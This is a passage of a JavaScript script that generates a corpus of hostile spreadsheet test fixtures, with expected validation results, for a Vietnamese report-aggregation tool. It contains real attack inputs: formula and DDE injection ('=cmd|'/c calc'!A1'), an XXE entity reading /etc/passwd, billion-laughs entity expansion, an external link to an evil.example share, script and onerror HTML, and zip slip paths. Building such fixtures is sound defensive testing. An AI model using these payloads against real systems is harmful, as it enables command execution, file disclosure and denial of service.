    expect: { status: 'rejected', findings: [E('READ_TOO_MANY_CELLS', 'NhanSu', '')] },
  },
  {
    file: 'chuoi-chung-khong-lo.xlsx',
    big: true,
    about: 'bảng chuỗi dùng chung 2.100.000 chuỗi khác nhau',
    make: () => {
      const parts = [];
      for (let i = 0; i < 2_100_000; i++) parts.push(`<si><t>c${i.toString(36)}</t></si>`);
      const sst = Buffer.from(
        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">${parts.join('')}</sst>`,
      );
      const sheet = `${SHEET_HEAD}<dimension ref="A1"/><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>`;
      return zipOf(minimalXlsxEntries({ data: sheet }, { sst: { data: sst, level: 1 } }));
    },
    expect: { status: 'rejected', findings: [E('READ_TOO_MANY_CELLS', '', '')] },
  },
  {
    file: 'ods-lap-o.ods',
    about: 'ODS 7 KB có ô lặp lại thành 10 tỉ ô',
    make: () => odsRepeated(1_000_000),
    expect: { status: 'rejected', findings: [E('READ_TOO_MANY_CELLS', 'NhanSu', '')] },
  },
  {
    file: '5000-cot.xlsx',
    big: true,
    about: 'trang NhanSu có 5.000 cột (cột thừa sau 13 cột của mẫu)',
    make: () => {
      const header = [...NHANSU_HEADER];
      for (let c = header.length; c < 5000; c++) header.push(`Cột thêm ${c + 1}`);
      /** @type {Array<Array<string | number>>} */
      const rows = [header];
      for (let r = 0; r < 20; r++) {
        /** @type {Array<string | number>} */
        const row = [
          r + 1,
          PEOPLE[r % PEOPLE.length],
          r % 2 ? 'Nữ' : 'Nam',
          1980 + r,
          'Kinh',
          '',
          'Công chức',
          '',
          'Chuyên viên',
          'Đại học',
          '',
          'Chuyên viên',
          '',
        ];
        for (let c = row.length; c < 5000; c++) row.push(c % 10);
        rows.push(row);
      }
      const sheets = unitSheets('Phòng Kế hoạch - Tài chính', 21);
      sheets[2] = ['NhanSu', rows, []];
      return write(bookOf(sheets));
    },
    expect: { status: 'warnings', findings: [E('UNIT_EXTRA_COLUMNS', 'NhanSu')] },
  },
  {
    file: '16384-cot.xlsx',
    big: true,
    about: 'trang không tên mẫu, 16.384 cột × 30 dòng chữ giống tiêu đề (dò tiêu đề chỉ xét 256 cột đầu)',
    make: () => {
      const words = [
        'Số hồ sơ',
        'Ngày tiếp nhận',
        'Họ và tên',
        'Trình độ',
        'Lĩnh vực',
        'Tổng số',
        'Chương trình',
        'Quá hạn',
        'Ghi chú',
        'Đơn vị',
      ];
      const aoa = [];
      for (let r = 0; r < 30; r++)
        aoa.push(Array.from({ length: 16384 }, (_, c) => `${words[(r * 7 + c) % 10]} ${c % 13}`));
      return write(bookOf([['Sheet1', aoa, []]]));
    },
    expect: { status: 'rejected', findings: [E('UNIT_SHEET_UNKNOWN', 'Sheet1', ''), E('UNIT_NOTHING_USABLE', '', '')] },
  },
  {
    file: 'nghin-trang.xlsx',
    big: true,
    about: 'sổ tính có 1.000 trang danh sách nhân sự',
    make: () => {
      const sheets = unitSheets('Phòng Nghìn trang', 71);
      for (let i = 0; i < 995; i++)
        sheets.push([
          `NhanSu${i + 2}`,
          [
            NHANSU_HEADER,
            [1, PEOPLE[i % 6], 'Nam', 1980, 'Kinh', '', 'Công chức', '', 'Chuyên viên', 'Đại học', '', '', ''],
          ],
          [],
        ]);
      return write(bookOf(sheets));
    },
    expect: { status: 'warnings', findings: [E('UNIT_DUPLICATE_SHEET', 'NhanSu2', '')] },
  },
  {
    file: 'xml-long-sau.xlsx',
    about: 'XML lồng sâu 100.000 tầng trong một ô và trong bảng chuỗi dùng chung',
    make: () =>
      rewrite(unitWorkbook('Phòng Thanh tra XML', 22), {
        'xl/worksheets/sheet1.xml': (x) =>
          x.replace(
            '</sheetData>',
            '<row r="20"><c r="A20" t="inlineStr"><is>' +
              '<r>'.repeat(100_000) +
              '<t>sâu</t>' +
              '</r>'.repeat(100_000) +
              '</is></c></row></sheetData>',
          ),
        'xl/sharedStrings.xml': (x) =>
          x.replace(
            '</sst>',
            '<si>' + '<r><rPr>'.repeat(50_000) + '<t>x</t>' + '</rPr></r>'.repeat(50_000) + '</si></sst>',
          ),
      }),
    expect: { status: 'valid', findings: [] },
  },
  {
    file: 'chuoi-rat-dai.xlsx',
    about: 'tên đơn vị dài 100.000 ký tự (Excel chỉ giữ 32.767 ký tự trong một ô)',
    // SheetJS refuses to write such a cell, so the name is put into the shared strings afterwards.
    make: () =>
      rewrite(unitWorkbook('Trung tâm dài', 23), {
        'xl/sharedStrings.xml': (x) => x.replace('Trung tâm dài', 'Trung tâm ' + 'rất '.repeat(25_000) + 'dài'),
      }),
    expect: { status: 'valid', findings: [] },
  },

  // --- Formulas: errors, injection, no cached values, DDE
  {
    file: 'cong-thuc-loi.xlsx',
    about: 'ô công thức lỗi #REF!, #DIV/0! trong bảng TTHC',
    make: () =>
      write(
        bookOf(
          unitSheets('Phòng Hành chính', 24).map((s) =>
            s[0] !== 'TTHC'
              ? s
              : [
                  ...s,
                  (ws) => {
                    ws.D3 = { t: 'e', v: 0x17, w: '#REF!', f: 'Sheet9!A1' };
                    ws.H4 = { t: 'e', v: 0x07, w: '#DIV/0!', f: 'H3/0' };
                  },
                ],
          ),
        ),
      ),
    expect: {
      status: 'errors',
      findings: [
        E('UNIT_SECTION_HELD', '', ''),
        E('UNIT_BAD_NUMBER', 'TTHC', 'D3'),
        E('UNIT_BAD_NUMBER', 'TTHC', 'H4'),
      ],
    },
  },
  {
    file: 'chen-cong-thuc.xlsx',
    about: 'chèn công thức: tên đơn vị, lĩnh vực, họ tên, chương trình bắt đầu bằng = + - @',
    make: () =>
      unitWorkbook(INJECTION.unit, 25, {
        tthcRows: [
          tthcRow(1, INJECTION.field1, { online: 2, inPerson: 1, early: 3 }),
          tthcRow(2, INJECTION.field2, { online: 1, inPerson: 1, early: 2 }),
          tthcRow(3, INJECTION.field3, { inPerson: 1, early: 1 }),
        ],
        staffRows: [
          [
            1,
            INJECTION.person,
            'Nam',
            1980,
            'Kinh',
            '',
            'Công chức',
            '',
            'Chuyên viên',
            'Đại học',
            '',
            'Chuyên viên',
            '',
          ],
          [
            2,
            '@Nguyễn Văn B',
            'Nữ',
            1985,
            'Kinh',
            'x',
            'Công chức',
            '',
            'Chuyên viên',
            'Thạc sĩ',
            '',
            'Chuyên viên',
            '',
          ],
        ],
        training: [
          [
            1,
            '+Trần Văn C',
            'Công chức',
            'Bồi dưỡng',
            INJECTION.program,
            "=cmd|'/c calc'!A1",
            '06/04/2020',
            '29/05/2020',
            'Hoàn thành',
          ],
        ],
      }),
    expect: { status: 'warnings', findings: [E('TRAINING_UNKNOWN_VALUE', 'DaoTao')] },
  },
  {
    file: 'cong-thuc-chua-tinh.xlsx',
    about: 'công thức chưa có giá trị đã tính (tệp do phần mềm khác tạo): TongHop tự tính =D3+E3+F3',
    make: () =>
      write(
        bookOf(
          unitSheets('Phòng Tổ chức cán bộ', 26).map((s) =>
            s[0] !== 'TTHC'
              ? s
              : [
                  ...s,
                  (ws) => {
                    ws.C3 = { t: 'n', f: 'D3+E3+F3' };
                  },
                ],
          ),
        ),
      ),
    expect: { status: 'valid', findings: [] },
  },
  {
    file: 'lien-ket-dde.xlsx',
    about:
      'công thức DDE / liên kết ngoài có giá trị đã tính: chỉ giá trị được đọc, công thức không bao giờ được ghi lại',
    make: () =>
      write(
        bookOf(
          unitSheets('Phòng Pháp chế', 27).map((s) =>
            s[0] !== 'TTHC'
              ? s
              : [
                  ...s,
                  (ws) => {
                    ws.F3 = { t: 'n', f: "cmd|'/c calc'!A1", v: ws.F3.v };
                    ws.F4 = { t: 'n', f: "'[\\\\evil.example\\share\\x.xlsx]Sheet1'!A1", v: ws.F4.v };
                  },
                ],
          ),
        ),
      ),
    expect: { status: 'valid', findings: [] },
  },

  // --- Hostile text
  {
    file: 'the-html.xlsx',
    about: 'tên đơn vị chứa <img onerror> và </script>',
    make: () => unitWorkbook(HTML_NAME, 28),
    expect: { status: 'valid', findings: [] },
  },
  {
    file: 'ky-tu-dieu-khien.xlsx',
    about: 'ký tự điều khiển, _x0001_, U+FFFE, nửa cặp surrogate trong tên và lĩnh vực',
    make: () =>
      rewrite(
        unitWorkbook('Phòng Điều khiển', 29, {
          tthcRows: [
            tthcRow(1, 'Lĩnh vực\u0001 có\u000b ký tự\u001f lạ', { online: 1, inPerson: 1, early: 2 }),
            tthcRow(2, FIELDS[2], { inPerson: 1, early: 1 }),
          ],
        }),
        {
          'xl/sharedStrings.xml': (x) => x.replace('Phòng Điều khiển', 'Phòng _x0001_Điều\uFFFE khiển&#xD800; _x001F_'),
        },
      ),
    // The odd field is no field of the list: kept under its own (cleaned) name, with a warning.
    expect: { status: 'warnings', findings: [E('TTHC_UNKNOWN_FIELD', 'TTHC')] },
  },
  {
    file: 'xxe.xlsx',
    about: 'thực thể XML ngoài (XXE) và "tỉ tỉ tràng cười" trong bảng chuỗi dùng chung',
    make: () =>
      rewrite(unitWorkbook('Phòng XXE', 30), {
        'xl/sharedStrings.xml': (x) =>
          x
            .replace(
              '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>',
              '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">]>',
            )
            .replace('Phòng XXE', 'Phòng XXE &xxe; &h;'),
      }),
    expect: { status: 'valid', findings: [] },
  },
  {
    file: 'ten-trang-la.xlsx',
    about: 'trang tính thêm có tên =HYPERLINK(…) và <b>…</b>',
    // Excel would not let "/" into a sheet name; a crafted workbook.xml does.
    make: () =>
      rewrite(
        write(
          bookOf([...unitSheets('Phòng Tên trang', 31), ['PHU1', [['ghi chú', 1]], []], ['PHU2', [['x', 'y']], []]]),
        ),
        {
          'xl/workbook.xml': (x) =>
            x
              .replace('name="PHU1"', 'name="=HYPERLINK(&quot;x&quot;)"')
              .replace('name="PHU2"', 'name="&lt;b&gt;Bảng phụ&lt;/b&gt;"'),
        },
      ),
    expect: {
      status: 'warnings',
      findings: [E('UNIT_SHEET_UNKNOWN', '=HYPERLINK("x")'), E('UNIT_SHEET_UNKNOWN', '<b>Bảng phụ</b>')],
    },
  },
  {
    file: 'duong-dan-zip.xlsx',
    about: 'zip slip: phần tên ../../../../tmp/tonghop-zip-slip.txt bên cạnh sổ tính hợp lệ',
    make: () =>
      rewrite(
        unitWorkbook('Phòng Zip slip', 32),
        {},
        { add: { '../../../../tmp/tonghop-zip-slip.txt': 'không được ghi ra đĩa' } },
      ),
    expect: { status: 'valid', findings: [] },
  },

  // --- Legacy Vietnamese and Unicode forms
  {
    file: 'tcvn3.xlsx',
    about: 'chữ gõ bằng bảng mã TCVN3 (.VnTime)',
    make: () =>
      unitWorkbook(toTcvn3('Trung tâm thông tin khoa học và công nghệ'), 33, {
        tthcRows: [tthcRow(1, toTcvn3('Hoạt động khoa học và công nghệ'), { online: 2, inPerson: 2, early: 4 })],
        staffRows: [
          [
            1,
            toTcvn3('Nguyễn Văn Tùng'),
            'Nam',
            1980,
            'Kinh',
            '',
            toTcvn3('Công chức'),
            '',
            toTcvn3('Chuyên viên'),
            toTcvn3('Thạc sĩ'),
            '',
            toTcvn3('Chuyên viên'),
            '',
          ],
          [
            2,
            toTcvn3('Lê Thị Hồng'),
            toTcvn3('Nữ'),
            1984,
            'Kinh',
            'x',
            toTcvn3('Viên chức'),
            '',
            toTcvn3('Chuyên viên'),
            toTcvn3('Đại học'),
            '',
            '',
            '',
          ],
        ],
      }),
    expect: {
      status: 'warnings',
      findings: [E('UNIT_LEGACY_TEXT', 'ThongTin', 'B2'), E('UNIT_LEGACY_TEXT', 'NhanSu')],
    },
  },
  {
    file: 'vni.xlsx',
    about: 'chữ gõ bằng bảng mã VNI-Windows',
    make: () =>
      unitWorkbook(toVni('Phòng đo lường và thử nghiệm'), 34, {
        tthcRows: [tthcRow(1, toVni('Tiêu chuẩn đo lường chất lượng'), { online: 1, inPerson: 3, early: 4 })],
        staffRows: [
          [
            1,
            toVni('Phạm Đức Thắng'),
            'Nam',
            1979,
            'Kinh',
            '',
            toVni('Công chức'),
            '',
            toVni('Chuyên viên'),
            toVni('Thạc sĩ'),
            '',
            '',
            '',
          ],
          [
            2,
            toVni('Đỗ Thị Hương'),
            toVni('Nữ'),
            1990,
            'Kinh',
            '',
            toVni('Công chức'),
            '',
            toVni('Chuyên viên'),
            toVni('Đại học'),
            '',
            '',
            '',
          ],
        ],
      }),
    expect: {
      status: 'warnings',
      findings: [E('UNIT_LEGACY_TEXT', 'ThongTin', 'B2'), E('UNIT_LEGACY_TEXT', 'NhanSu')],
    },
  },
  {
    file: 'nfd.xlsx',
    about: 'chữ Unicode dạng tổ hợp (NFD) trong mọi ô',
    make: () => {
      const sheets = unitSheets('Phòng Quản lý công nghệ và thị trường', 35).map(([n, aoa, m]) => [
        n,
        aoa.map((row) => row.map((v) => (typeof v === 'string' ? v.normalize('NFD') : v))),
        m,
      ]);
      return write(bookOf(sheets));
    },
    expect: { status: 'valid', findings: [] },
  },

  // --- Numbers and dates typed every way
  {
    file: 'so-kieu-viet.xlsx',
    about: 'số gõ dạng chữ: 1.234,5 — 1,234.5 — " 12 " — "12 hồ sơ" — 1.234',
    make: () =>
      unitWorkbook('Phòng Số liệu', 36, {
        tthcRows: [
          tthcRow('1', FIELDS[0], {
            received: '1.234',
            online: '1.200',
            inPerson: ' 12 ',
            carriedOver: '22',
            resolved: '1.234',
            early: '1.234',
          }),
          tthcRow('2', FIELDS[1], { received: '1.234,5', online: '1,234.5', inPerson: '12 hồ sơ' }),
        ],
        total: tthcRow('', 'Tổng cộng', {
          received: 2468,
          online: 1200,
          inPerson: 24,
          carriedOver: 22,
          resolved: 1234,
          early: 1234,
        }),
      }),
    expect: {
      status: 'errors',
      findings: [
        E('UNIT_SECTION_HELD', '', ''),
        E('UNIT_BAD_NUMBER', 'TTHC', 'C4'),
        E('UNIT_BAD_NUMBER', 'TTHC', 'D4'),
        E('UNIT_NUMBER_INTERPRETED', 'TTHC', 'E4'),
      ],
    },
  },
  {
    file: 'so-am-le.xlsx',
    about: 'số hồ sơ âm và số lẻ thập phân',
    make: () =>
      unitWorkbook('Phòng Số âm', 37, {
        tthcRows: [
          tthcRow(1, FIELDS[0], { received: 5, online: 3, inPerson: -1, carriedOver: 3, early: 5 }),
          tthcRow(2, FIELDS[1], { received: 2.5, online: 1, inPerson: 1.5, early: 2 }),
        ],
      }),
    expect: {
      status: 'errors',
      findings: [
        E('UNIT_SECTION_HELD', '', ''),
        E('UNIT_BAD_NUMBER', 'TTHC', 'E3'),
        E('UNIT_BAD_NUMBER', 'TTHC', 'C4'),
      ],
    },
  },
  {
    file: 'so-khong-lo.xlsx',
    about: 'số khổng lồ, vô cực, NaN, 1e5 trong các ô số liệu',
    make: () =>
      rewrite(
        unitWorkbook('Phòng Số lớn', 38, {
          tthcRows: [
            tthcRow(1, FIELDS[0], { received: 1e308, online: 1e308 }),
            tthcRow(2, FIELDS[1], { received: 'NaN', online: 'Infinity', inPerson: '1e5' }),
          ],
        }),
        {
          // A <v> of 1e400 parses to Infinity.
          'xl/worksheets/sheet2.xml': (x) => x.replace(/(<c r="D3"[^>]*>)<v>[^<]*<\/v>/, '$1<v>1e400</v>'),
        },
      ),
    expect: {
      status: 'errors',
      findings: [
        E('UNIT_SECTION_HELD', '', ''),
        E('UNIT_BAD_NUMBER', 'TTHC', 'D3'),
        E('UNIT_BAD_NUMBER', 'TTHC', 'C4'),
      ],
    },
  },
  {
    file: 'ngay-thang.xlsx',
    about: 'sổ theo dõi với ngày 15/03/2020, 2020-03-15, 15-3-20, số seri, ngày không có thật 31/02/2020',
    make: () => {
      const reg = [
        REGISTER_HEADER,
        ['HS-1', FIELDS[0], 'Thủ tục A', 'Trực tiếp', '15/03/2020', 10, '20/03/2020', ''],
        ['HS-2', FIELDS[0], 'Thủ tục A', 'Trực tuyến', '2020-03-15', 10, '2020-03-18', ''],
        ['HS-3', FIELDS[0], 'Thủ tục A', 'Trực tiếp', '15-3-20', 10, '17-3-20', ''],
        ['HS-4', FIELDS[1], 'Thủ tục B', 'Trực tiếp', 43905, 10, 43910, ''],
        ['HS-5', FIELDS[1], 'Thủ tục B', 'Trực tiếp', '31/02/2020', 10, '', ''],
        ['HS-6', FIELDS[1], 'Thủ tục B', 'Bưu chính', '43906', '30/03/2020', '25/03/2020', ''],
      ];
      const sheets = unitSheets('Phòng Một cửa', 39).filter(([n]) => n !== 'TTHC');
      sheets.splice(1, 0, [
        'SoTheoDoi',
        reg,
        [],
        (ws) => {
          ws.E5.z = 'dd/mm/yyyy';
        },
      ]);
      return write(bookOf(sheets));
    },
    expect: { status: 'errors', findings: [E('UNIT_SECTION_HELD', '', ''), E('REGISTER_BAD_DATE', 'SoTheoDoi', 'E6')] },
  },

  // --- Figures that do not add up
  {
    file: 'tong-sai.xlsx',
    about: 'dòng Tổng cộng ghi khác tổng các dòng',
    make: () => {
      const rows = [
        tthcRow(1, FIELDS[0], { online: 3, inPerson: 4, carriedOver: 1, early: 6, onTime: 1, pendingWithin: 1 }),
        tthcRow(2, FIELDS[1], { online: 1, inPerson: 1, early: 2 }),
      ];
      /** @type {Array<string | number>} */
      const total = tthcTotal(rows);
      total[2 + FIGURES.indexOf('received')] = 99;
      return unitWorkbook('Phòng Tổng sai', 40, { tthcRows: rows, total });
    },
    expect: { status: 'errors', findings: [E('UNIT_SECTION_HELD', '', ''), E('TTHC_TOTAL_MISMATCH', 'TTHC', 'C5')] },
  },
  {
    file: 'dong-sai.xlsx',
    about: 'một dòng lĩnh vực có tổng số khác các cột thành phần',
    make: () =>
      unitWorkbook('Phòng Dòng sai', 41, {
        tthcRows: [
          tthcRow(1, FIELDS[0], { received: 50, online: 3, inPerson: 4, carriedOver: 1, early: 6, onTime: 2 }),
          tthcRow(2, FIELDS[1], { online: 1, inPerson: 1, early: 2 }),
        ],
      }),
    expect: { status: 'errors', findings: [E('UNIT_SECTION_HELD', '', ''), E('TTHC_ROW_SUM_MISMATCH', 'TTHC', 'C3')] },
  },

  // --- Across files
  {
    file: 'trung-don-vi-1.xlsx',
    about: 'đơn vị gửi hai lần (bản thứ nhất)',
    make: () => unitWorkbook('Trung tâm Kiểm định và Kiểm nghiệm', 42),
    expect: { status: 'valid', findings: [] },
  },
  {
    file: 'trung-don-vi-2.xlsx',
    about: 'đơn vị gửi hai lần (bản thứ hai, tên viết hoa và dạng NFD)',
    make: () => unitWorkbook('TRUNG TÂM KIỂM ĐỊNH VÀ KIỂM NGHIỆM'.normalize('NFD'), 43),
    expect: { status: 'valid', findings: [], corpus: [E('UNIT_DUPLICATE', '', '')], corpusStatus: 'rejected' },
  },
  {
    file: 'ky-khac.xlsx',
    about: 'kỳ báo cáo khác các đơn vị còn lại (năm 2019)',
    make: () =>
      unitWorkbook('Phòng Kỳ khác', 44, {
        info: [
          ['Tên đơn vị', 'Phòng Kỳ khác'],
          ['Kỳ báo cáo', 'Năm 2019'],
          ['Từ ngày', '15/12/2018'],
          ['Đến ngày', '14/12/2019'],
          ['Biên chế được giao', 8],
        ],
      }),
    expect: { status: 'valid', findings: [], corpus: [E('PERIOD_MISMATCH')], corpusStatus: 'warnings' },
  },

  // --- Layout oddities
  {
    file: 'gop-o-tieu-de.xlsx',
    about:
      'ô gộp tràn qua dòng tiêu đề: khối tiêu đề gộp A1:M1 phía trên, nhóm cột gộp lệch, cột Lĩnh vực gộp xuống dòng số liệu',
    make: () => {
      const sheets = unitSheets('Phòng Gộp ô', 45);
      const [, aoa] = sheets[1];
      const title = [['BÁO CÁO KẾT QUẢ GIẢI QUYẾT TTHC', ...new Array(12).fill('')]];
      const shifted = (m) => ({ s: { r: m.s.r + 1, c: m.s.c }, e: { r: m.e.r + 1, c: m.e.c } });
      sheets[1] = [
        'TTHC',
        [...title, ...aoa],
        [
          { s: { r: 0, c: 0 }, e: { r: 0, c: 12 } },
          ...TTHC_MERGES.slice(0, 2).map(shifted),
          { s: { r: 1, c: 2 }, e: { r: 1, c: 6 } },
          { s: { r: 1, c: 7 }, e: { r: 1, c: 9 } },
          { s: { r: 1, c: 10 }, e: { r: 1, c: 12 } },
          { s: { r: 3, c: 1 }, e: { r: 4, c: 1 } },
        ],
      ];
      return write(bookOf(sheets));
    },
    // The header is found through the merges; B5, covered by the merge B4:B5, still holds its field's name.
    expect: { status: 'valid', findings: [] },
  },
  {
    file: 'an-dong-an-trang.xlsx',
    about: 'dòng ẩn chứa số liệu trong NhanSu (vẫn được đọc) và trang TTHC bị ẩn (không được đọc)',
    make: () => {
      const sheets = unitSheets('Phòng Dòng ẩn', 46);
      sheets[2] = [
        ...sheets[2].slice(0, 3),
        (ws) => {
          ws['!rows'] = [];
          ws['!rows'][2] = { hidden: true };
          ws['!rows'][3] = { hidden: true };
        },
      ];
      return write(bookOf(sheets, { hidden: ['TTHC'] }));
    },
    expect: {
      status: 'warnings',
      findings: [E('UNIT_HIDDEN_SHEETS_SKIPPED', 'TTHC', ''), E('UNIT_HIDDEN_ROWS', 'NhanSu', 'A3')],
    },
  },
  {
    file: 'chi-tieu-de.xlsx',
    about: 'sổ tính chỉ có dòng tiêu đề, chưa điền số liệu',
    make: () =>
      write(
        bookOf([
          [
            'ThongTin',
            [
              ['Tên đơn vị', ''],
              ['Kỳ báo cáo', ''],
              ['Từ ngày', ''],
              ['Đến ngày', ''],
            ],
            [],
          ],
          ['TTHC', [...TTHC_HEADER], TTHC_MERGES],
          ['NhanSu', [NHANSU_HEADER], []],
          ['DaoTao', [DAOTAO_HEADER], []],
        ]),
      ),
    expect: { status: 'rejected', findings: [E('UNIT_NOTHING_USABLE', '', '')] },
  },
  {
    file: 'html-doi-ten.xls',
    about: 'sổ theo dõi xuất từ hệ thống web: trang HTML (có <script>) lưu thành .xls',
    make: () =>
      Buffer.from(
        '<html><head><meta charset="utf-8"><script>alert(1)</script></head><body><table>' +
          `<tr>${REGISTER_HEADER.map((h) => `<th>${h}</th>`).join('')}</tr>` +
          '<tr><td>HS-1</td><td>Sở hữu trí tuệ</td><td>Đăng ký &lt;script&gt;alert(3)&lt;/script&gt;</td><td>Trực tuyến</td><td>02/03/2020</td><td>10</td><td>05/03/2020</td><td></td></tr>' +
          '<tr><td>HS-2</td><td>Sở hữu trí tuệ</td><td>Đăng ký</td><td>Trực tiếp</td><td>09/03/2020</td><td>10</td><td>30/03/2020</td><td><img src=x onerror=alert(4)></td></tr>' +
          '<tr><td>HS-3</td><td>Sở hữu trí tuệ</td><td>Đăng ký</td><td>Trực tiếp</td><td>10/06/2020</td><td>15</td><td></td><td></td></tr>' +
          '</table></body></html>',
      ),
    expect: { status: 'warnings', findings: [E('READ_TEXT_WORKBOOK', '', ''), E('UNIT_NAME_FROM_FILE')] },
  },
  {
    file: 'xml-2003.xls',
    about: 'bảng tính XML của Excel 2003 lưu thành .xls',
    make: () => write(bookOf(unitSheets('Phòng Excel 2003', 47)), 'xlml'),
    expect: { status: 'warnings', findings: [E('READ_TEXT_WORKBOOK', '', '')] },
  },
];

/**
 * Writes the corpus into `outDir` (small files; with `big`, the big ones too) and expected.json (always every
 * case). Returns the names written.
 */
function makeHostileCorpus(outDir, opts = {}) {
  const big = !!opts.big;
  const only = opts.only ? new Set(opts.only) : null;
  fs.mkdirSync(outDir, { recursive: true });
  const written = [];
  const expected = {
    about: 'Kết quả mong đợi của từng tệp trong bộ tệp độc hại (scripts/make-hostile-corpus.js).',
    files: {},
  };
  for (const c of CASES) {
    expected.files[c.file] = { about: c.about, big: !!c.big, ...c.expect };
    if (c.big && !big) continue;
    if (only && !only.has(c.file)) continue;
    fs.writeFileSync(path.join(outDir, c.file), c.make());
    written.push(c.file);
  }
  fs.writeFileSync(path.join(outDir, 'expected.json'), JSON.stringify(expected, null, 2) + '\n');
  return written;
}

module.exports = {
  makeHostileCorpus,
  CASES,
  INJECTION,
  HTML_NAME,
  zipOf,
  minimalXlsxEntries,
  unzip,
  crc32,
  deflatedRepeat,
  unitSheets,
  unitWorkbook,
  bookOf,
  write,
  toTcvn3,
  toVni,
  lcg,
  pseudoRandomBytes,
  cellOf,
  PERIOD,
};

if (require.main === module) {
  const args = process.argv.slice(2);
  const out = args.find((a) => !a.startsWith('--')) || path.join(__dirname, '..', 'test', 'fixtures', 'hostile');
  const files = makeHostileCorpus(out, { big: args.includes('--big') });
  process.stderr.write(`Đã tạo ${files.length} tệp trong ${out} (và expected.json)\n`);
}
